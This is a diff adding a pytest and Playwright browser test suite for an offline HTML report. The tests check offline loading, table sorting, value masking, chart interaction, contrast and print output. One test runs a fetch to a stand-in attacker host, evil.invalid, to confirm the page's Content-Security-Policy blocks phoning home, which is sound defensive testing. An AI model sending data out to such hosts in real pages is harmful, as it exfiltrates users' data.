@@ -1,0 +1,170 @@
+"""The demo's page as a reader has it: it opens offline, works with mouse and keyboard, fits every screen, prints."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+pytestmark = pytest.mark.browser
+Look = Callable[..., Any]
+
+
+def test_it_opens_offline_and_quietly(demo: Path, look: Look) -> None:
+    """No request, no word on the console, every chart drawn, code folded away, values masked."""
+    seen = look(demo / "report.html")
+    assert seen.requests == []
+    assert seen.console == []
+    assert seen.page.locator(".vega svg").count() == seen.page.locator(".vega").count() >= 6
+    assert seen.page.get_by_text("could not be drawn").count() == 0
+    assert seen.page.locator(".dropped").count() == 0
+    assert not seen.page.locator("details.code").first.is_visible()
+    assert seen.page.locator(".mask").count() > 5
+    assert seen.page.locator(".mask.shown").count() == 0
+
+
+def test_the_policy_refuses_a_fetch(demo: Path, look: Look) -> None:
+    """A script that tried to phone home, from the console even, is stopped by the page itself."""
+    page = look(demo / "report.html").page
+    tried = "fetch('https://evil.invalid/x').then(() => 'sent', () => 'refused')"
+    assert page.evaluate(tried) == "refused"
+    assert page.evaluate("(() => { try { return eval('1+1') } catch { return 'refused' } })()") in ("refused", 2)
+    policy = page.locator("meta[http-equiv='Content-Security-Policy']").get_attribute("content") or ""
+    assert "unsafe-eval" not in policy
+    assert "script-src 'sha256-" in policy
+    assert re.search(r"script-src[^;]*unsafe", policy) is None
+    first = (demo / "report.html").read_text(encoding="utf-8").split("<head>")[1].lstrip()
+    assert first.startswith('<meta http-equiv="Content-Security-Policy"'), "nothing comes before the policy"
+
+
+def test_tables_sort_by_value(demo: Path, look: Look) -> None:
+    page = look(demo / "report.html").page
+    head = page.locator("#size th .sort").nth(2)
+
+    def column() -> list[float]:
+        cells = page.locator("#size tbody td:nth-child(3)").all_inner_texts()
+        return [float(cell.replace(",", "")) for cell in cells]
+
+    head.focus()
+    page.keyboard.press("Enter")
+    assert column() == sorted(column())
+    page.keyboard.press("Enter")
+    assert column() == sorted(column(), reverse=True)
+    assert page.locator("#size th").nth(2).get_attribute("aria-sort") == "descending"
+    assert "descending" in (page.text_content("#status") or "")
+
+
+def test_masks_open_by_intent(demo: Path, look: Look) -> None:
+    page = look(demo / "report.html").page
+    first = page.locator(".mask").first
+    assert "blur" in first.locator("bdi").evaluate("e => getComputedStyle(e).filter")
+    first.focus()
+    page.keyboard.press("Enter")
+    assert page.locator(".mask.shown").count() == 1
+    assert first.get_attribute("aria-label") is None
+    page.click("#toggle-mask")
+    assert page.locator(".mask.shown").count() == page.locator(".mask").count()
+    page.click("#toggle-mask")
+    assert page.locator(".mask.shown").count() == 0
+
+
+def test_code_folds_out(demo: Path, look: Look) -> None:
+    page = look(demo / "report.html").page
+    page.click("#toggle-code")
+    assert page.locator("details.code pre").first.is_visible()
+    page.click("#toggle-code")
+    assert not page.locator("details.code pre").first.is_visible()
+
+
+def test_the_network_answers(demo: Path, look: Look) -> None:
+    """Tooltips say what a node is, the legend picks a kind, the wheel alone scrolls the page."""
+    page = look(demo / "report.html").page
+    chart = page.locator("#network .vega").first
+    chart.scroll_into_view_if_needed()
+    chart.locator(".mark-symbol.role-mark path").first.hover()
+    page.wait_for_selector("#vg-tooltip-element.visible")
+    assert "kind" in page.locator("#vg-tooltip-element").inner_text()
+    legend = chart.locator(".role-legend .mark-symbol path")
+    legend.nth(legend.count() - 1).click()
+    page.wait_for_timeout(300)
+    fills = chart.locator(".mark-symbol.role-mark path").evaluate_all("all => all.map(e => e.getAttribute('opacity'))")
+    assert "0.12" in fills
+    assert {"1", None} & set(fills)
+    before = page.evaluate("scrollY")
+    page.mouse.wheel(0, 300)
+    page.wait_for_timeout(500)
+    assert page.evaluate("scrollY") > before
+    positions = "all => all.map(e => e.getAttribute('transform')).join()"
+    still = chart.locator(".mark-symbol.role-mark path").evaluate_all(positions)
+    box = chart.bounding_box()
+    assert box
+    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
+    page.keyboard.down("Control")
+    page.mouse.wheel(0, -300)
+    page.keyboard.up("Control")
+    page.wait_for_timeout(500)
+    assert chart.locator(".mark-symbol.role-mark path").evaluate_all(positions) != still
+
+
+def test_labels_of_the_network_do_not_overlap(demo: Path, look: Look) -> None:
+    page = look(demo / "report.html").page
+    boxes = (
+        page.locator("#network .vega")
+        .first.locator(".mark-text.role-mark text:not([stroke])")
+        .evaluate_all(
+            "all => all.map(e => { const b = e.getBoundingClientRect(); return [b.left, b.top, b.right, b.bottom] })"
+        )
+    )
+    assert len(boxes) >= 8
+    pairs = [(a, b) for i, a in enumerate(boxes) for b in boxes[:i]]
+    overlap = [
+        (a, b) for a, b in pairs if min(a[2], b[2]) - max(a[0], b[0]) > 2 and min(a[3], b[3]) - max(a[1], b[1]) > 3
+    ]
+    assert overlap == []
+
+
+def test_contents_lead_to_their_sections(demo: Path, look: Look) -> None:
+    page = look(demo / "report.html").page
+    links = page.locator("#toc a").all()
+    assert len(links) > 12
+    for link in links:
+        assert page.locator(f"section{link.get_attribute('href')}").count() == 1
+    links[6].click()
+    page.wait_for_timeout(800)
+    assert page.evaluate("scrollY") > 500
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [1280, 800, 390])
+def test_it_fits_every_screen(width: int, scheme: str, demo: Path, look: Look) -> None:
+    """Nothing sticks out sideways; text stands out from its ground in both schemes."""
+    page = look(demo / "report.html", viewport={"width": width, "height": 900}, color_scheme=scheme).page
+    assert page.evaluate("document.documentElement.scrollWidth") <= width
+    # The first screen answers: mark, title, bottom line.
+    assert (page.locator(".lead").bounding_box() or {})["y"] < 900
+    contrast = """selector => {
+      const parts = (c) => c.match(/[\\d.]+/g).slice(0, 3).map(Number);
+      const even = (v) => (v /= 255) <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4;
+      const light = (c) => { const [r, g, b] = parts(c).map(even); return .2126 * r + .7152 * g + .0722 * b; };
+      const e = document.querySelector(selector), ink = light(getComputedStyle(e).color),
+        ground = light(getComputedStyle(document.body).backgroundColor);
+      return (Math.max(ink, ground) + .05) / (Math.min(ink, ground) + .05);
+    }"""
+    for selector in ("body", ".lead", "figcaption", "dt", "#toc a", ".finding h3"):
+        assert page.evaluate(contrast, selector) >= 4.5, selector
+
+
+def test_masked_values_do_not_print(demo: Path, look: Look) -> None:
+    """On paper a mask is a word, not a blur, and what scrolled is there whole."""
+    page = look(demo / "report.html").page
+    page.emulate_media(media="print")
+    assert page.locator(".mask").first.evaluate("e => getComputedStyle(e).fontSize") == "0px"
+    assert page.locator(".mask").first.evaluate("e => getComputedStyle(e, '::after').content") == '"[masked]"'
+    clipped = page.locator(".scroll").evaluate_all(
+        "all => all.filter(e => getComputedStyle(e).overflowY !== 'visible').length"
+    )
+    assert clipped == 0
+    assert len(page.pdf(format="A4")) > 50_000
